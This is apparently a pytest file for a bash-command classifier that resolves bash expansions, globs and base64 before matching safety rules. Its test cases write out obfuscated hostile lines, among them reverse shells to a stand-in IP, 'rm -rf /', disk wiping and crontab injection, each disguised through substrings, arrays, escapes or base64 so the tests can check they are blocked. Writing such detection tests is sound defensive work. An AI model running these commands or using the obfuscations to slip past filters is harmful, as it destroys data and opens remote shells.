"""What bash resolves before it runs a line, resolved before the rules match.

Expansions known within the line (substrings, indirection, arrays, printf -v,
case modification, ANSI-C escapes), globs in a command's path against a
program table, and the rule for what stays unknown: a hidden program warns
(`engine.dynamic-command`) while everyday dynamic words stay quiet.
"""

from __future__ import annotations

import pytest

from attyguard.engine.classify import Engine, classify, default_engine
from attyguard.engine.expand import ARRAY_JOIN, Scope, expand_parameter
from attyguard.engine.normalize import DEFAULT_PROGRAMS, ProgramIndex
from attyguard.engine.parse import parse
from attyguard.engine.programs import snapshot_programs
from attyguard.engine.verdict import Action

SCALARS = {"v": "Hello World", "n": "v", "p": "/usr/local/bin/tool", "e": "", "i": "2"}
ARRAYS = {"a": {"0": "cu", "1": "rl", "2": "-s"}, "m": {"k": "val"}}
SCOPE = Scope(SCALARS.get, ARRAYS.get, frozenset({"HOME"}))


@pytest.mark.parametrize(("text", "value"), [
    ("$v", "Hello World"),
    ("${v}", "Hello World"),
    ("${v:0:5}", "Hello"),
    ("${v:6}", "World"),
    ("${v: -5}", "World"),
    ("${v:(-5):3}", "Wor"),
    ("${v:1:-1}", "ello Worl"),
    ("${#v}", "11"),
    ("${!n}", "Hello World"),
    ("${v,,}", "hello world"),
    ("${v^^}", "HELLO WORLD"),
    ("${v~~}", "hELLO wORLD"),
    ("${e:-fallback}", "fallback"),
    ("${e-fallback}", ""),
    ("${zz:-'dflt'}", "dflt"),
    ("${zz:-$v}", "Hello World"),
    ("${v:+alt}", "alt"),
    ("${p##*/}", "tool"),
    ("${p#*/}", "usr/local/bin/tool"),
    ("${p%/*}", "/usr/local/bin"),
    ("${p%%/bin*}", "/usr/local"),
    ("${v/World/There}", "Hello There"),
    ("${v//l/L}", "HeLLo WorLd"),
    ("${v/#Hello/Bye}", "Bye World"),
    ("${v/%World/All}", "Hello All"),
    ("${v/W*/X}", "Hello X"),
    ("${v@U}", "HELLO WORLD"),
    ("${a[1]}", "rl"),
    ("${a[$i]}", "-s"),
    ("${a[-1]}", "-s"),
    ("$a", "cu"),
    ("${a[*]}", "cu rl -s"),
    ("${a[@]}", ARRAY_JOIN.join(["cu", "rl", "-s"])),
    ("${a[@]:1:1}", "rl"),
    ("${#a[@]}", "3"),
    ("${m[k]}", "val"),
    ("${a[0]}${a[1]}", None),  # two expansions: the parser joins them, not this function
])
def test_expand_parameter(text: str, value: str | None) -> None:
    assert expand_parameter(text, SCOPE) == value


@pytest.mark.parametrize("text", ["$unknown", "${unknown^^}", "${!unknown}", "${HOME:-/x}",
                                  "${v:$(id):1}", "${!a[@]}", "${zz:-$(date)}"])
def test_unknown_stays_unknown(text: str) -> None:
    assert expand_parameter(text, SCOPE) is None


# Each hides a dangerous program behind something bash resolves within the line.
RESPELLED = [
    ("x=xxbashxx; ${x:2:4} -i >& /dev/tcp/192.0.2.9/7000 0>&1", Action.BLOCK),
    ("w=bash; r=w; ${!r} -i >& /dev/tcp/192.0.2.9/7000 0>&1", Action.BLOCK),
    ("c=(r m); ${c[0]}${c[1]} -rf --no-preserve-root /", Action.BLOCK),
    ('c=(rm -rf --no-preserve-root /); "${c[@]}"', Action.BLOCK),
    ("c[0]=rm; c[1]=-rf; ${c[0]} ${c[1]} --no-preserve-root /", Action.BLOCK),
    ("printf -v c '%s%s' r m; $c -rf --no-preserve-root /", Action.BLOCK),
    ("printf -v c '\\x72\\x6d'; $c -rf --no-preserve-root /", Action.BLOCK),
    ("u=RM; ${u,,} -rf --no-preserve-root /", Action.BLOCK),
    ("u=bAsH; ${u,,} -i >& /dev/tcp/192.0.2.9/7000 0>&1", Action.BLOCK),
    ("l=rm; ${l^^} -rf / 2>/dev/null; ${l} -rf --no-preserve-root /", Action.BLOCK),
    ("$'\\u0072\\u006d' -rf --no-preserve-root /", Action.BLOCK),
    ("$'\\162\\155' -rf --no-preserve-root /", Action.BLOCK),
    ("p=/usr/bin/xrmx; ${p:10:2} -rf --no-preserve-root /", Action.BLOCK),
    ("f=/tmp/bash; ${f##*/} -i >& /dev/tcp/192.0.2.9/7000 0>&1", Action.BLOCK),
    ("s=bXsh; ${s/X/a} -i >& /dev/tcp/192.0.2.9/7000 0>&1", Action.BLOCK),
    ("/usr/bin/r[m] -rf --no-preserve-root /", Action.BLOCK),
    ("/b?n/r? -rf --no-preserve-root /", Action.BLOCK),
    ("/u?r/s?in/wip?fs -a /dev/sdb", Action.WARN),  # sda (the system disk) blocks
    ("/[[:lower:]]in/b[^x]sh -i >& /dev/tcp/192.0.2.9/7000 0>&1", Action.BLOCK),
    ("/???/?[[:alpha:]] -rf /", Action.WARN),  # several programs match: unknown, warns
]


@pytest.mark.parametrize(("line", "action"), RESPELLED, ids=[r[0][:44] for r in RESPELLED])
def test_respelled_programs_are_resolved(line: str, action: Action) -> None:
    verdict = classify(line)
    assert verdict.action is action, verdict.rules


HIDDEN = [
    "$runner -s http://192.0.2.9/x",
    "${tool^^} --flag",
    "${!ref} arg",
    "${x:1:3} arg",
    "c$x arg",
    "$(cat /tmp/.n | rev) arg",
    "`echo $q | tr a-z n-za-m` arg",
    "/opt/*/zz run",
    "sudo $prog",
    "find . -exec $cmd {} +",
]


@pytest.mark.parametrize("line", HIDDEN)
def test_a_program_that_stays_unknown_warns_with_its_rule(line: str) -> None:
    verdict = classify(line)
    assert verdict.action is Action.WARN
    assert "engine.dynamic-command" in [h.rule_id for h in verdict.rules]
    assert all(h.explanation for h in verdict.rules)


# Everyday dynamic forms: interactive habits and common script idioms.
EVERYDAY = [
    "$EDITOR ~/.bashrc",
    "$VISUAL notes.md",
    '"$@"',
    'exec "$@"',
    "$SHELL -l",
    "${PAGER:-less} README.md",
    "${CC:-cc} -O2 -o hello hello.c",
    "${EDITOR:-vi} /etc/hosts",
    "$JAVA_HOME/bin/java -version",
    "${PYTHON} -m venv .venv",
    '"$1" --version',
    "$MAKE -j4",
    'eval "$(pyenv init -)"',
    'eval "$(ssh-agent -s)"',
    'eval "$(direnv hook bash)"',
    "$(which python3) -m pip list",
    "$(command -v node) --version",
    "env $(cat .env | xargs) npm start",
    'for f in *.log; do gzip "$f"; done',
    "find . -name '*.py' -exec $EDITOR {} +",
    "sudo $EDITOR /etc/fstab",
    "x=ls; $x -la",
    "cmd=(git status --short); \"${cmd[@]}\"",
    "dir=/var/log; ls $dir/*.log",
    "ls /usr/bin/py*",
    "echo ${HOME:0:5}",
    "name=World; echo ${name^^}",
    "v=1.2.3; echo ${v%.*}",
    "printf -v now '%s' today; echo $now",
    "cp /etc/host[s] /tmp/",
    "/usr/bin/env python3 script.py",
    "[ -f ~/.bashrc ] && . ~/.bashrc",
    "$dir/bin/tool --help",
    '"${root}/scripts/build.sh" all',
]


@pytest.mark.parametrize("line", EVERYDAY)
def test_everyday_dynamic_lines_stay_quiet(line: str) -> None:
    verdict = classify(line)
    assert verdict.action is Action.ALLOW, verdict.rules


def test_glob_resolves_against_the_index_given() -> None:
    index = ProgramIndex(("/opt/acme/bin/deploy", "/usr/bin/rm"))
    assert index.resolve("/opt/*/bin/dep[l]oy") == "/opt/acme/bin/deploy"
    assert index.resolve("/usr/bin/r?") == "/usr/bin/rm"
    assert index.resolve("/opt/*") is None  # lists a directory, names no program
    assert DEFAULT_PROGRAMS.resolve("/opt/*/bin/dep[l]oy") is None
    # The engine takes its index as data: the same line, resolved or not.
    engine = Engine(default_engine().ruleset, programs=index)
    names = [c.name for c in parse("/opt/*/bin/dep[l]oy x", programs=index).commands]
    assert names == ["deploy"]
    assert engine.classify("/opt/*/bin/dep[l]oy x").action is Action.ALLOW
    assert classify("/opt/*/bin/dep[l]oy x").action is Action.WARN


def test_snapshot_of_path_lists_programs(tmp_path: pytest.TempPathFactory) -> None:
    import pathlib
    d = pathlib.Path(str(tmp_path)) / "bin"
    d.mkdir()
    (d / "zz-tool").write_text("#!/bin/sh\n")
    index = snapshot_programs(f"{d}:relative/dir:/nonexistent", extra=())
    assert f"{d}/zz-tool" in index.paths
    assert index.resolve(f"{d}/zz-t??l") == f"{d}/zz-tool"
    assert "/usr/bin/rm" in index.paths  # the static table is always there


def _b64(text: str) -> str:
    import base64
    return base64.b64encode(text.encode()).decode()


REDIRECTS = [
    (f"exec 5<>$(echo {_b64('/dev/tcp/192.0.2.9/7000')}|base64 -d); bash <&5 >&5", Action.BLOCK),
    (f"exec 5<>`echo {_b64('/dev/tcp/192.0.2.9/7000')} | base64 -d`; sh <&5 >&5", Action.BLOCK),
    (f"echo '* * * * * root id' >> $(echo {_b64('/etc/crontab')} | base64 -d)", Action.WARN),
    ("a=/etc/cr; b=ontab; echo '* * * * * root id' >> $a$b", Action.WARN),
    ("a=/etc/cr; b=ontab; tee -a $a$b <<< '* * * * * root id'", Action.WARN),
    ("d=/dev; t=tcp; bash -i >& $d/$t/192.0.2.9/7000 0>&1", Action.BLOCK),
    ("p=(/dev tcp); bash -i >& ${p[0]}/${p[1]}/192.0.2.9/7000 0>&1", Action.BLOCK),
    ("x='rm -rf --no-preserve-root /'; bash <<< $x", Action.BLOCK),
    ("printf -v x 'rm -rf --no-preserve-root /'; sh <<< \"$x\"", Action.BLOCK),
    (f"bash <<< \"$(echo {_b64('rm -rf --no-preserve-root /')} | base64 -d)\"", Action.BLOCK),
]


@pytest.mark.parametrize(("line", "action"), REDIRECTS, ids=[r[0][:44] for r in REDIRECTS])
def test_redirect_targets_and_here_strings_are_resolved(line: str, action: Action) -> None:
    verdict = classify(line)
    assert verdict.action is action, verdict.rules


def test_ordinary_redirects_stay_quiet() -> None:
    for line in (f"echo hi > $(echo {_b64('notes.txt')} | base64 -d)",
                 "out=build.log; make > $out 2>&1",
                 "d=/tmp; sort < $d/in.txt > $d/out.txt",
                 "cat <<< \"$HOME\""):
        assert classify(line).action is Action.ALLOW, line
